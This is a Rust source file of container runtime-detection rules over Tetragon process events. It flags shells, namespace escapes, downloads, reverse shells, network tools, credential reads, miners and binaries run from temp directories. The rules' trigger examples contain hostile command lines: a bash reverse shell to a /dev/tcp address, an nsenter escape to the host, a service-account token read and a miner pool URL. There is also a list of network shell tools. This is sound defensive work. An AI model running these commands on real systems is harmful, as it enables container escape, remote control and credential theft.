//! Which started programs are worth telling.

use airside_types::attack::technique;
use airside_types::{Severity, Source, Tactic};

use super::Exec;
use crate::command::Command;
use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, WEAK};

/// A rule with its code.
pub(super) struct Definition {
    pub(super) rule: Rule,
    pub(super) when: fn(&Exec, &Command) -> bool,
}

const SHELLS: [&str; 7] = ["sh", "bash", "ash", "dash", "zsh", "ksh", "busybox"];
/// What starts the first program of an exec session.
const RUNTIMES: [&str; 7] =
    ["runc", "crun", "runsc", "containerd-shim", "containerd-shim-runc-v2", "conmon", "kata-agent"];
const SERVERS: [&str; 12] = [
    "nginx", "httpd", "apache2", "caddy", "lighttpd", "php-fpm", "java", "node", "tomcat", "uwsgi",
    "gunicorn", "ruby",
];

pub(super) static RULES: &[Definition] = &[
    Definition {
        rule: Rule {
            id: "TETRAGON-shell-in-container",
            version: 1,
            title: "Shell started in a container from outside",
            why: "Somebody has a shell in a container, whether to debug or to attack.",
            next: "",
            severity: Severity::Low,
            confidence: LIKELY,
            tactic: Tactic::Execution,
            techniques: &[technique("T1609"), technique("T1059.004")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/bin/bash","pod":{"namespace":"shop","name":"web-0","container":{"pid":41}}},"parent":{"binary":"/usr/bin/runc"}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/bin/sh","arguments":"/start.sh","pod":{"namespace":"shop","name":"web-0","container":{"pid":1}}},"parent":{"binary":"/usr/bin/containerd-shim-runc-v2"}}}"#,
            }),
        },
        when: |exec, _| {
            exec.in_container()
                && !exec.is_first_of_container()
                && SHELLS.contains(&exec.process.program())
                && RUNTIMES.contains(&exec.parent.program())
        },
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-shell-by-server",
            version: 1,
            title: "Shell started by a server program",
            why: "Server programs have little use for a shell; exploited ones start it first.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1059.004"), technique("T1190")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/bin/sh","arguments":"-c id","pod":{"namespace":"shop","name":"web-0"}},"parent":{"binary":"/usr/sbin/nginx"}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/usr/sbin/nginx","pod":{"namespace":"shop","name":"web-0"}},"parent":{"binary":"/bin/sh"}}}"#,
            }),
        },
        when: |exec, _| {
            exec.in_container()
                && SHELLS.contains(&exec.process.program())
                && SERVERS.contains(&exec.parent.program())
        },
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-namespace-entered",
            version: 1,
            title: "Other namespaces entered from a container",
            why: "nsenter and its kin lead from a privileged container into its node.",
            next: "",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/usr/bin/nsenter","arguments":"-t 1 -m -p sh","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/usr/bin/nsenter","arguments":"-t 77 -n ss"}},"node_name":"node-1"}"#,
            }),
        },
        when: |exec, _| {
            exec.in_container() && matches!(exec.process.program(), "nsenter" | "unshare")
        },
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-mount-in-container",
            version: 1,
            title: "File system mounted from a container",
            why: "Only a privileged container can, and the node's disk is what there is to mount.",
            next: "",
            severity: Severity::High,
            confidence: PLAUSIBLE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/bin/mount","arguments":"/dev/vda1 /mnt","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/bin/mount","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |exec, _| {
            let mounts = exec.process.program() == "mount" && !exec.process.arguments.is_empty();
            exec.in_container() && mounts
        },
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-download",
            version: 1,
            title: "File fetched from outside",
            why: "Tools that an image does not have are brought in this way, by scripts too.",
            next: "",
            severity: Severity::Low,
            confidence: WEAK,
            tactic: Tactic::CommandAndControl,
            techniques: &[technique("T1105")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/usr/bin/wget","arguments":"-q http://198.51.100.23/x","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/usr/bin/wget","arguments":"--version","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |exec, command| exec.in_container() && command.downloads(),
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-reverse-shell",
            version: 1,
            title: "Shell handed to a network connection",
            why: "The command line gives a shell to a machine outside.",
            next: "",
            severity: Severity::Critical,
            confidence: LIKELY,
            tactic: Tactic::Execution,
            techniques: &[technique("T1059.004"), technique("T1095")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/bin/bash","arguments":"-i","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |_, command| command.is_reverse_shell(),
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-network-tool",
            version: 1,
            title: "Tool for foreign connections or scans run in a container",
            why: "Images of applications have no use for these tools.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::Discovery,
            techniques: &[technique("T1046"), technique("T1040")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/usr/bin/nc","arguments":"example.net 443","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/usr/bin/ping","arguments":"db","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |exec, _| {
            const TOOLS: [&str; 8] =
                ["nc", "ncat", "netcat", "nmap", "masscan", "socat", "tcpdump", "tshark"];
            exec.in_container() && TOOLS.contains(&exec.process.program())
        },
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-credentials-read",
            version: 1,
            title: "Credentials read by a command",
            why: "The command line names a token, a key or another process's environment.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::CredentialAccess,
            techniques: &[technique("T1552.001")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/bin/cat","arguments":"/var/run/secrets/kubernetes.io/serviceaccount/token","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/bin/cat","arguments":"/etc/hostname","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |exec, command| exec.in_container() && command.reads_credentials(),
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-miner",
            version: 1,
            title: "Miner runs",
            why: "The command line is a cryptocurrency miner's: somebody else's work on your machines.",
            next: "",
            severity: Severity::Critical,
            confidence: LIKELY,
            tactic: Tactic::Impact,
            techniques: &[technique("T1496.001")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/tmp/.x","arguments":"-o stratum+tcp://pool.example.net:3333","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/app/pool","arguments":"--size 3","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |_, command| command.is_miner(),
    },
    Definition {
        rule: Rule {
            id: "TETRAGON-run-from-temporary",
            version: 1,
            title: "Program run from a directory for temporary files",
            why: "What an image brings lies elsewhere; here lies what was brought in after the start.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1105"), technique("T1059")],
            equivalents: &[],
            source: Source::Tetragon,
            examples: Some(Examples {
                fires: r#"{"process_exec":{"process":{"binary":"/dev/shm/k","pod":{"namespace":"shop","name":"web-0"}}}}"#,
                quiet: r#"{"process_exec":{"process":{"binary":"/usr/bin/ls","arguments":"/tmp","pod":{"namespace":"shop","name":"web-0"}}}}"#,
            }),
        },
        when: |exec, _| {
            const TEMPORARY: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];
            let binary = &exec.process.binary;
            exec.in_container() && TEMPORARY.iter().any(|directory| binary.starts_with(directory))
        },
    },
];
